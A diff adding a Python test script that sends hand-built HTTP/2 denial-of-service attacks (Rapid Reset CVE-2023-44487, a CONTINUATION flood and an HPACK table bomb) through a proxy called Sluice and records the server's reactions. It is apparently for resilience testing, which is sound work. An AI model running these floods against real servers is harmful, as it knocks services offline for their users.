@@ -1,0 +1,133 @@
+"""HTTP/2 abuse through Sluice's interception, frames written by hand (RFC 9113, RFC 7541).
+
+Usage: abuse.py MODE PROXY_PORT HOST PORT CA_FILE
+  rapid-reset   opens streams and cancels each at once (CVE-2023-44487), up to 20 000
+  continuation  a HEADERS frame without END_HEADERS followed by up to 100 000 empty CONTINUATION frames
+  hpack-bomb    one 4 KiB header field put in the dynamic table, then referenced 4 000 times in one block
+Prints JSON: what the server did (GOAWAY and its error code, resets, responses) and how long it took.
+"""
+import json
+import socket
+import ssl
+import struct
+import sys
+import time
+
+mode, proxy_port, host, port, ca = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4]), sys.argv[5]
+
+
+def frame(kind, flags, stream, payload=b""):
+    return struct.pack("!I", len(payload))[1:] + bytes([kind, flags]) + struct.pack("!I", stream) + payload
+
+
+def literal(name, value):  # literal header field without indexing, new name
+    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value
+
+
+def request_block(path=b"/plain"):
+    return (literal(b":method", b"GET") + literal(b":scheme", b"https") + literal(b":authority", b"%s:%d" % (host.encode(), port))
+            + literal(b":path", path))
+
+
+raw = socket.create_connection(("127.0.0.1", proxy_port), timeout=10)
+raw.sendall(b"CONNECT %s:%d HTTP/1.1\r\nHost: %s:%d\r\n\r\n" % (host.encode(), port, host.encode(), port))
+head = b""
+while b"\r\n\r\n" not in head:
+    head += raw.recv(1)
+context = ssl.create_default_context(cafile=ca)
+context.set_alpn_protocols(["h2"])
+s = context.wrap_socket(raw, server_hostname=host)
+assert s.selected_alpn_protocol() == "h2", s.selected_alpn_protocol()
+s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
+s.settimeout(0.0)
+
+out = {"goaway": None, "resets": 0, "responses": 0, "sent": 0, "closed": False}
+buffer = b""
+
+
+def pump():
+    global buffer
+    try:
+        while True:
+            data = s.recv(65536)
+            if not data:
+                out["closed"] = True
+                break
+            buffer += data
+    except (ssl.SSLWantReadError, BlockingIOError):
+        pass
+    except (ConnectionResetError, BrokenPipeError, ssl.SSLError, OSError):
+        out["closed"] = True
+    while len(buffer) >= 9:
+        length = struct.unpack("!I", b"\x00" + buffer[:3])[0]
+        if len(buffer) < 9 + length:
+            break
+        kind, flags = buffer[3], buffer[4]
+        payload = buffer[9:9 + length]
+        buffer = buffer[9 + length:]
+        if kind == 7:
+            out["goaway"] = struct.unpack("!I", payload[4:8])[0]
+        elif kind == 3:
+            out["resets"] += 1
+        elif kind == 1:
+            out["responses"] += 1
+        elif kind == 4 and not flags & 1:
+            s.sendall(frame(4, 1, 0))
+
+
+def send(data):
+    try:
+        s.settimeout(5)
+        s.sendall(data)
+        s.settimeout(0.0)
+        return True
+    except OSError:
+        out["closed"] = True
+        s.settimeout(0.0)
+        pump()
+        return False
+
+
+started = time.time()
+if mode == "rapid-reset":
+    for i in range(20000):
+        stream = 2 * i + 1
+        if not send(frame(1, 0x5, stream, request_block()) + frame(3, 0, stream, struct.pack("!I", 8))):
+            break
+        out["sent"] += 1
+        if i % 50 == 0:
+            pump()
+            if out["goaway"] is not None or out["closed"]:
+                break
+elif mode == "continuation":
+    send(frame(1, 0x1, 1, request_block()))  # END_STREAM, no END_HEADERS
+    for i in range(100000):
+        if not send(frame(9, 0, 1, b"")):
+            break
+        out["sent"] += 1
+        if i % 500 == 0:
+            pump()
+            if out["goaway"] is not None or out["closed"]:
+                break
+elif mode == "hpack-bomb":
+    value = b"v" * 4000
+    # Literal with incremental indexing, new name; value length 4000 as an HPACK integer (7-bit prefix).
+    length = 4000 - 127
+    encoded = bytes([0x7F])
+    while length >= 128:
+        encoded += bytes([length % 128 + 128])
+        length //= 128
+    encoded += bytes([length])
+    block = request_block() + b"\x40" + bytes([6]) + b"x-bomb" + encoded + value + b"\xbe" * 4000
+    send(frame(1, 0x5, 1, block[:16384]))
+    rest = block[16384:]
+    out["sent"] = len(block)
+    if rest:
+        send(frame(1, 0x5, 3, request_block()))  # a second, ordinary request after it
+pump()
+deadline = time.time() + 3
+while time.time() < deadline and out["goaway"] is None and not out["closed"] and not (mode == "hpack-bomb" and out["resets"] + out["responses"] > 0):
+    time.sleep(0.02)
+    pump()
+out["seconds"] = round(time.time() - started, 3)
+print(json.dumps(out))
